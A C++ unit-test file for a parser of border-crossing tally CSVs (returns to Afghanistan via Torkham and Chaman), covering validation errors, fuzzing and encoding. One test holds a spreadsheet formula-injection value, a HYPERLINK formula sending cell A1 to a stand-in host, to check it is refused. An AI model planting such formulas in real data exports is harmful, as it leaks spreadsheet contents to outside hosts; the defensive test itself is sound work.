#include "report/tally_csv.h"

#include <gtest/gtest.h>

#include <algorithm>
#include <fstream>
#include <iterator>
#include <random>

#include "core/utf8.h"

namespace sanad::report {
namespace {

const std::string kHeader = std::string(kFlowTallyCsvHeader) + "\n";

TEST(TallyCsv, ReadsGoodRowsWithCanonicalCrossingNames) {
  const std::string csv = kHeader +
                          "2025-04-01,torkham,to_afghanistan,deported,3,12,5,7,2,3,6,1,Nangarhar\n"
                          "2025-04-01,Chaman,to_afghanistan,spontaneous,1,4,2,2,1,1,2,0,\n"
                          "2025-04-02,سپین بولدک,to_pakistan,assisted_voluntary_repatriation,2,"
                          "9,4,5,1,2,5,1,\"Qandahar\"\n";
  const auto parsed = ParseFlowTallyCsv(csv, CrossingGazetteer::Default());
  ASSERT_TRUE(parsed.errors.empty()) << parsed.errors[0].message;
  ASSERT_EQ(parsed.records.size(), 3u);
  EXPECT_EQ(parsed.rows, 3u);
  const FlowTally& t = parsed.records[0].tally;
  EXPECT_EQ(t.date, (Date{2025, 4, 1}));
  EXPECT_EQ(t.crossing_point, "Torkham");
  EXPECT_EQ(t.mode, MovementMode::kDeported);
  EXPECT_EQ(t.households, 3);
  EXPECT_EQ(t.individuals, 12);
  EXPECT_EQ(t.age_60_plus, 1);
  EXPECT_EQ(t.destination_province, "Nangarhar");
  EXPECT_EQ(parsed.records[0].line, 2);
  EXPECT_EQ(parsed.records[1].tally.crossing_point, "Chaman–Spin Boldak");
  EXPECT_EQ(parsed.records[2].tally.crossing_point, "Chaman–Spin Boldak");
  EXPECT_EQ(parsed.records[2].tally.direction, Direction::kToPakistan);
  EXPECT_EQ(parsed.records[2].tally.destination_province, "Kandahar");
}

TEST(TallyCsv, EveryBadRowIsReportedWithLineAndColumn) {
  struct Case {
    std::string row;
    std::string field;
    std::string says;
  };
  const Case cases[] = {
      {"2025-13-01,Torkham,to_afghanistan,deported,3,12,5,7,2,3,6,1,", "date", "not a valid date"},
      {"2025-04-01,Karachi,to_afghanistan,deported,3,12,5,7,2,3,6,1,", "crossing_point",
       "not a known crossing point"},
      {"2025-04-01,Torkham,north,deported,3,12,5,7,2,3,6,1,", "direction", "to_afghanistan"},
      {"2025-04-01,Torkham,to_afghanistan,walked,3,12,5,7,2,3,6,1,", "mode", "spontaneous"},
      {"2025-04-01,Torkham,to_afghanistan,deported,3,twelve,5,7,2,3,6,1,", "individuals",
       "whole number"},
      {"2025-04-01,Torkham,to_afghanistan,deported,3,-12,5,7,2,3,6,1,", "individuals",
       "whole number"},
      {"2025-04-01,Torkham,to_afghanistan,deported,3,12,5,6,2,3,6,1,", "female", "add up"},
      {"2025-04-01,Torkham,to_afghanistan,deported,3,12,5,7,2,3,6,0,", "age_0_4", "add up"},
      {"2025-04-01,Torkham,to_afghanistan,deported,13,12,5,7,2,3,6,1,", "households", "cannot"},
      {"2025-04-01,Torkham,to_afghanistan,deported,0,12,5,7,2,3,6,1,", "households", "at least 1"},
  };
  for (const auto& c : cases) {
    SCOPED_TRACE(c.row);
    const std::string csv =
        kHeader + "2025-04-01,Torkham,to_afghanistan,deported,3,12,5,7,2,3,6,1,\n" + c.row + "\n";
    const auto parsed = ParseFlowTallyCsv(csv, CrossingGazetteer::Default());
    ASSERT_EQ(parsed.errors.size(), 1u);
    EXPECT_EQ(parsed.errors[0].line, 3);
    EXPECT_EQ(parsed.errors[0].field, c.field);
    EXPECT_NE(parsed.errors[0].message.find(c.says), std::string::npos) << parsed.errors[0].message;
    EXPECT_EQ(parsed.records.size(), 1u);
  }
}

TEST(TallyCsv, SexCountMismatchNamesBothSums) {
  const std::string csv =
      kHeader + "2025-04-01,Torkham,to_afghanistan,deported,3,12,5,6,2,3,6,1,\n";
  const auto parsed = ParseFlowTallyCsv(csv, CrossingGazetteer::Default());
  ASSERT_EQ(parsed.errors.size(), 1u);
  EXPECT_NE(parsed.errors[0].message.find("11"), std::string::npos);
  EXPECT_NE(parsed.errors[0].message.find("12"), std::string::npos);
}

TEST(TallyCsv, MissingColumnsAreAHeaderError) {
  const auto parsed =
      ParseFlowTallyCsv("date,crossing_point\n2025-04-01,Torkham\n", CrossingGazetteer::Default());
  ASSERT_EQ(parsed.errors.size(), 1u);
  EXPECT_EQ(parsed.errors[0].line, 1);
  EXPECT_EQ(parsed.errors[0].field, "header");
  EXPECT_NE(parsed.errors[0].message.find("direction"), std::string::npos);
  EXPECT_TRUE(parsed.records.empty());
}

TEST(TallyCsv, EmptyFileAndOptionalRegisteredColumn) {
  EXPECT_EQ(ParseFlowTallyCsv("", CrossingGazetteer::Default()).errors.size(), 1u);
  const std::string csv = std::string(kFlowTallyCsvHeader) +
                          ",registered_individuals\n"
                          "2025-04-01,Torkham,to_afghanistan,deported,3,12,5,7,2,3,6,1,,4\n"
                          "2025-04-01,Torkham,to_afghanistan,deported,3,12,5,7,2,3,6,1,,13\n";
  const auto parsed = ParseFlowTallyCsv(csv, CrossingGazetteer::Default());
  ASSERT_EQ(parsed.records.size(), 1u);
  EXPECT_EQ(parsed.records[0].tally.registered_individuals, 4);
  ASSERT_EQ(parsed.errors.size(), 1u);
  EXPECT_EQ(parsed.errors[0].field, "registered_individuals");
}

}  // namespace
}  // namespace sanad::report

namespace sanad::report {
namespace {

// Mutated files (bytes flipped, cut, duplicated) never crash the parser and
// every row is either a good record or an error with a line.
TEST(TallyCsv, MangledInputNeverCrashes) {
  const std::string valid = std::string(kFlowTallyCsvHeader) +
                            "\n2025-04-01,Torkham,to_afghanistan,deported,3,12,5,7,2,3,6,1,Kabul\n"
                            "2025-04-02,\"Chaman\",to_afghanistan,spontaneous,1,4,2,2,1,1,2,0,\n";
  std::mt19937 rng(7);
  std::uniform_int_distribution<int> byte(0, 255);
  for (int trial = 0; trial < 3000; ++trial) {
    std::string input = valid;
    std::uniform_int_distribution<size_t> at(0, input.size() - 1);
    switch (trial % 4) {
      case 0:
        input[at(rng)] = static_cast<char>(byte(rng));
        break;
      case 1:
        input.resize(at(rng));
        break;
      case 2:
        input.insert(at(rng), 1, "\",\n\r9-"[trial % 6]);
        break;
      case 3:
        input = input.substr(at(rng)) + input;
        break;
    }
    const auto parsed = ParseFlowTallyCsv(input, CrossingGazetteer::Default());
    for (const auto& e : parsed.errors) EXPECT_GE(e.line, 1);
    for (const auto& r : parsed.records) {
      EXPECT_TRUE(ValidateFlowTally(r.tally, true).has_value());
    }
  }
}

// Defect G: a destination that is not a province of Afghanistan (a formula,
// a typo) is refused naming its row; spellings are stored canonical.
TEST(TallyCsv, DestinationMustBeAKnownAfghanProvince) {
  const std::string csv = kHeader +
                          "2025-04-01,Torkham,to_afghanistan,deported,1,2,1,1,0,0,2,0,"
                          "\"=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"Click\"\")\"\n"
                          "2025-04-01,Torkham,to_afghanistan,deported,1,2,1,1,0,0,2,0,Punjab\n"
                          "2025-04-01,Torkham,to_afghanistan,deported,1,2,1,1,0,0,2,0,nangrahar\n";
  const auto parsed = ParseFlowTallyCsv(csv, CrossingGazetteer::Default());
  ASSERT_EQ(parsed.errors.size(), 2u);
  EXPECT_EQ(parsed.errors[0].line, 2);
  EXPECT_EQ(parsed.errors[0].field, "destination_province");
  EXPECT_EQ(parsed.errors[1].line, 3);
  EXPECT_EQ(parsed.errors[1].field, "destination_province");
  ASSERT_EQ(parsed.records.size(), 1u);
  EXPECT_EQ(parsed.records[0].tally.destination_province, "Nangarhar");
}

// Defect I: the importer refused nothing dated after today, though the API
// refuses such movements.
TEST(TallyCsv, AFutureDateIsRefused) {
  const Date later = Date::FromDaysSinceEpoch(Date::Today().DaysSinceEpoch() + 10);
  const std::string csv =
      kHeader + later.ToIso() + ",Torkham,to_afghanistan,deported,1,2,1,1,0,0,2,0,Kabul\n";
  const auto parsed = ParseFlowTallyCsv(csv, CrossingGazetteer::Default());
  ASSERT_EQ(parsed.errors.size(), 1u);
  EXPECT_EQ(parsed.errors[0].line, 2);
  EXPECT_EQ(parsed.errors[0].field, "date");
}

// Defect L: CR-only line endings are read as line endings.
TEST(TallyCsv, CrOnlyLineEndingsAreRead) {
  std::string csv = kHeader +
                    "2025-04-01,Torkham,to_afghanistan,deported,1,2,1,1,0,0,2,0,Kabul\n"
                    "2025-04-02,Torkham,to_afghanistan,deported,1,2,1,1,0,0,2,0,Kabul\n";
  std::replace(csv.begin(), csv.end(), '\n', '\r');
  const auto parsed = ParseFlowTallyCsv(csv, CrossingGazetteer::Default());
  ASSERT_TRUE(parsed.errors.empty()) << parsed.errors[0].message;
  ASSERT_EQ(parsed.records.size(), 2u);
  EXPECT_EQ(parsed.records[1].line, 3);
}

// Found while fixing the same defect that fuzz/date found (the fuzzer did
// not reach it in its run): errors quoted the first 20 or 40 bytes of a
// cell, which could end inside a Persian letter, so the error about a valid
// UTF-8 file was not UTF-8. fuzz/crashes/tally_csv/ replays the file.
TEST(TallyCsv, ErrorsQuotingLongPersianCellsAreUtf8) {
  std::ifstream in(std::string(SANAD_SOURCE_DIR) +
                       "/fuzz/crashes/tally_csv/long_persian_cells_quoted_in_errors.csv",
                   std::ios::binary);
  ASSERT_TRUE(in);
  const std::string csv{std::istreambuf_iterator<char>(in), std::istreambuf_iterator<char>()};
  const auto parsed = ParseFlowTallyCsv(csv, CrossingGazetteer::Default());
  ASSERT_EQ(parsed.errors.size(), 3u);
  EXPECT_EQ(parsed.errors[0].field, "crossing_point");
  EXPECT_EQ(parsed.errors[1].field, "individuals");
  EXPECT_EQ(parsed.errors[2].field, "destination_province");
  for (const auto& error : parsed.errors) {
    EXPECT_TRUE(IsValidUtf8(error.message)) << error.message;
  }
}

}  // namespace
}  // namespace sanad::report
